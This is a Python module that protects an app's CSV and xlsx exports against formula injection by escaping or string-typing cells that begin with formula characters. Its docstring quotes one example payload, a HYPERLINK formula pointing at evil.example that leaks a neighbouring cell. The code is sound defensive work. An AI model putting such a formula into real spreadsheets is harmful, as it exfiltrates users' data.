"""The one place every CSV and xlsx writer of the app passes its cells through, so that no
spreadsheet we write holds a live formula (CSV/formula injection).

A note or a name typed as ``=HYPERLINK("http://evil.example/?"&G2,"Details")`` must arrive in
Excel or WPS as the text the user typed, not as a formula that leaks the neighbouring cells.

* CSV has no types: a text cell that starts with ``= + - @``, a tab or a line break (or their
  full-width forms, which WPS also reads) gets a leading apostrophe, which spreadsheet programs
  show as text and do not evaluate. Numbers (``-5`` points) stay numbers.
* xlsx has types: text is stored as a string cell, never as a formula (openpyxl would otherwise
  turn any string starting with ``=`` into one). The text itself is kept unchanged, so an
  exported roster imports back to the same values.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import IO, Any


FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def csv_text(value: Any) -> Any:
    """One CSV cell: text that a spreadsheet would read as a formula is made plain text."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


class SafeCSVWriter:
    """``csv.writer`` whose rows go through :func:`csv_text`."""

    def __init__(self, fh: IO[str], **kwargs: Any) -> None:
        self._writer = csv.writer(fh, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_text(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(fh: IO[str], **kwargs: Any) -> SafeCSVWriter:
    return SafeCSVWriter(fh, **kwargs)


def as_text_cell(cell: Any) -> Any:
    """Make an openpyxl cell holding text a string cell (never a formula)."""
    if isinstance(cell.value, str) and cell.data_type == "f":
        cell.data_type = "s"
    return cell


def xlsx_value(ws: Any, value: Any) -> Any:
    """A value for ``ws.append`` (write-only sheets): text that would become a formula is
    wrapped in a string-typed cell; everything else is passed through unchanged."""
    if isinstance(value, str) and value.startswith("="):
        from openpyxl.cell import WriteOnlyCell  # openpyxl only where a workbook is written

        cell = WriteOnlyCell(ws, value=value)
        cell.data_type = "s"
        return cell
    if getattr(value, "data_type", None) == "f" and hasattr(value, "value"):  # a cell made by the caller
        return as_text_cell(value)
    return value


def xlsx_row(ws: Any, values: Iterable[Any]) -> list[Any]:
    return [xlsx_value(ws, v) for v in values]


def text_only(ws: Any) -> int:
    """For ordinary (not write-only) sheets, e.g. written by pandas: every formula cell becomes
    a string cell. Returns how many were changed."""
    changed = 0
    for row in ws.iter_rows():
        for cell in row:
            if cell.data_type == "f":
                as_text_cell(cell)
                changed += 1
    return changed
